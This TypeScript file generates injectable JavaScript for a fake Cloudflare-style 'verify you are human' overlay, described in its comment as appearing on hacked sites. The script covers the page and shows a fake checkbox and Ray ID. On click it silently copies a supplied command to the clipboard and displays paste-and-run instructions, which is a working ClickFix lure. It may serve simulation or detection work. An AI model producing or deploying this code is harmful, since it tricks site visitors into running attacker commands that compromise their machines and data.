/**
 * Injected "verify you are human" overlays as they appear on hacked customer sites. Each returns a script
 * body (served from a route) with the text in the page's language and the command it puts on the clipboard.
 */
export type CfText = { title: string; sub: string; box: string; steps: string[]; verify: string; ray: string };

const q = (s: string) => s.replace(/\\/g, '\\\\').replace(/'/g, "\\'");

export const captchaOverlay = (t0: CfText, command: string, delayMs = 700): string => {
  const t = { title: q(t0.title), sub: q(t0.sub), box: q(t0.box), verify: q(t0.verify), ray: q(t0.ray), steps: t0.steps.map(q) };
  return `(function(){
function go(){
var cmd=${JSON.stringify(command)};
var st=document.createElement('style');st.textContent='#cf-ov{position:fixed;inset:0;z-index:2147483646;background:#fff;font-family:-apple-system,system-ui,Segoe UI,Roboto,Arial,sans-serif;color:#313131}#cf-ov .m{max-width:640px;margin:12vh auto 0;padding:0 20px}#cf-ov h1{font-size:32px;font-weight:500;margin:0 0 8px}#cf-ov .b{margin-top:28px;border:1px solid #e0e0e0;background:#fafafa;width:300px;padding:16px;display:flex;align-items:center;gap:12px;border-radius:4px;cursor:pointer}#cf-ov .b i{width:26px;height:26px;border:2px solid #666;border-radius:3px;display:inline-block;background:#fff}#cf-ov .s{display:none;margin-top:18px;border:1px solid #ddd;padding:16px;width:420px;border-radius:4px;box-shadow:0 2px 10px rgba(0,0,0,.1)}#cf-ov ol{padding-left:20px;line-height:1.9}#cf-ov kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}#cf-ov .f{position:fixed;bottom:20px;left:0;right:0;text-align:center;font-size:12px;color:#777}';
document.head.appendChild(st);
var o=document.createElement('div');o.id='cf-ov';
o.innerHTML='<div class="m"><h1>'+location.hostname+'</h1><p>${t.title}</p><p style="color:#555">${t.sub}</p><div class="b" id="cf-b"><i></i><span>${t.box}</span></div><div class="s" id="cf-s"><b>${t.verify}</b><ol>${t.steps.map((s) => `<li>${s}</li>`).join('')}</ol></div></div><div class="f">Ray ID: <code>'+Math.random().toString(16).slice(2,18)+'</code> · ${t.ray}</div>';
document.body.appendChild(o);document.documentElement.style.overflow='hidden';
function copy(){try{navigator.clipboard.writeText(cmd)}catch(e){}var ta=document.createElement('textarea');ta.value=cmd;ta.style.position='fixed';ta.style.opacity='0';document.body.appendChild(ta);ta.select();try{document.execCommand('copy')}catch(e){}ta.remove();}
document.getElementById('cf-b').addEventListener('click',function(){copy();this.querySelector('i').style.borderColor='#1a73e8';document.getElementById('cf-s').style.display='block';});
}
if(document.readyState==='loading')document.addEventListener('DOMContentLoaded',function(){setTimeout(go,${delayMs})});else setTimeout(go,${delayMs});
})();`;
};
